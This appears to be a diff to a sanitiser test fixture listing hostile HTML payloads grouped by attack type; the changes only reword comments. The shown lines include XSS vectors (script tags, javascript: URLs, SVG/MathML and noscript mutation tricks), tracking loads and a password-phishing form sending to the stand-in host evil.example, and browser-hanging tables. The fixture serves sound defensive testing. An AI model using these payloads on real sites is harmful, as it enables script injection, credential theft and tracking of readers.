@@ -1,10 +1,10 @@
 /**
- * Hostile HTML, grouped by the way it attacks. A payload that runs calls `alert(1)`, one that leaks asks for
- * something at `evil.example`; a browser that plays the sanitised form of any must see neither, except that a
- * plain `http(s)` picture may be loaded.
+ * Hostile HTML, grouped by attack. A payload that runs calls `alert(1)`, one that leaks requests something from
+ * `evil.example`; a browser that renders the sanitised form of any must do neither, except that a plain `http(s)`
+ * picture may be loaded.
  */
 export const htmlPayloads: readonly string[] = [
-  // Script elements, in every spelling a tokenizer takes.
+  // Script elements, in every spelling a tokenizer accepts.
   '<script>alert(1)</script>',
   '<SCRIPT>alert(1)</SCRIPT>',
   '<ScRiPt>alert(1)</sCrIpT>',
@@ -233,7 +233,7 @@ export const htmlPayloads: readonly string[] = [
   '<img src="//evil.example/a.png">',
   '<img src="https:a.png">',
 
-  // Pictures that are not pictures, and pictures the message does not own.
+  // Pictures that are not pictures, and pictures the message doesn't own.
   '<img src="javascript:alert(1)">',
   '<img src="jav&#x09;ascript:alert(1)">',
   '<img src="vbscript:MsgBox(1)">',
@@ -259,7 +259,7 @@ export const htmlPayloads: readonly string[] = [
   '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src=https://example.com/a>',
   '<map name=m><area shape=rect coords=0,0,9,9 href="https://evil.example/" ping="https://evil.example/p"></map>',
 
-  // Loads from elsewhere that tell a sender the mail was opened.
+  // Remote loads that tell a sender that the email was opened.
   '<body background="https://evil.example/b.png">x</body>',
   '<table background="https://evil.example/b.png"><tr><td background="https://evil.example/c.png">x</table>',
   '<td background="javascript:alert(1)">x</td>',
@@ -326,7 +326,7 @@ export const htmlPayloads: readonly string[] = [
   '<constructor>x</constructor><__proto__>x</__proto__><hasownproperty>x</hasownproperty>',
   '<slot name=x>y</slot><p slot=x part=y exportparts=z is=w itemscope itemprop=v>x</p>',
 
-  // SVG and MathML, where the rules of parsing change.
+  // SVG and MathML, where the parsing rules change.
   '<svg><script>alert(1)</script></svg>',
   '<svg><script href="data:text/javascript,alert(1)"/></svg>',
   '<svg><script xlink:href="https://evil.example/x.js"/></svg>',
@@ -380,7 +380,7 @@ export const htmlPayloads: readonly string[] = [
   '<math><semantics><annotation>x</annotation></semantics></math><img src=x onerror=alert(1)>',
   '<svg><math><mtext><svg><style><p title="</style><img src=x onerror=alert(1)>"></svg></math></svg>',
 
-  // Text that becomes markup when it is written and read once more.
+  // Text that becomes markup when it is serialised and parsed once more.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>',
   '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
@@ -536,7 +536,7 @@ export const htmlPayloads: readonly string[] = [
   '<base href="javascript:alert(1)//"><a href="x">x</a>',
   '<base target="x\'><script>alert(1)</script>">',
 
-  // Forms that ask for a password or carry the reader off.
+  // Forms that ask for a password or navigate away.
   '<form action="javascript:alert(1)"><input type=submit></form>',
   '<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>',
   '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
@@ -550,7 +550,7 @@ export const htmlPayloads: readonly string[] = [
   '<output onclick=alert(1)><legend onclick=alert(1)>x',
   '<keygen name=x challenge=y form=f>',
 
-  // Tables wide enough to hang the reader's browser, and values that are not what they should be.
+  // Tables wide enough to hang the reader's browser, and values of the wrong type.
   '<table><tr><td colspan=999999999 rowspan=65534>x</table>',
   '<table><tr><td colspan="1 onclick=alert(1)" rowspan=-1 align="expression(alert(1))">x</table>',
   '<table><tr><th align="left&quot; onclick=&quot;alert(1)" colspan=1e3 rowspan=0x10>x</table>',
